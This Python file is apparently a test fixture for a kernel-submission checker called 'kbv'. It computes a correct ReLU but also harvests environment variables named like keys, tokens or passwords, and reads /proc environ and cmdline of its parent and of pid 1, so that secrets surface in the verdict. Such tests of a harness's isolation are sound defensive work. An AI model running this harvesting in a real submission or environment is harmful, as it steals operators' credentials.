"""Attack: read kbv's secrets (examples/problems/level1/19_ReLU.py).

Prints every environment variable whose name looks like a key or a token, and the environment
and command line of its parent and of pid 1, so that whatever it finds lands in the verdict's
output. Computes a correct ReLU.
kbv must conclude: no API key (the tests put a marker in OPENAI_API_KEY) in anything it read.
"""
import os
import sys

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import report  # noqa: E402

for k, v in os.environ.items():
    if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASSWORD")):
        report("read_secrets", f"env {k}={v}")
for pid in {os.getppid(), 1}:
    for what in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{what}", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            report("read_secrets", f"/proc/{pid}/{what}: {text[:4000]}")
        except OSError as e:
            report("read_secrets", f"/proc/{pid}/{what}: {e}")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
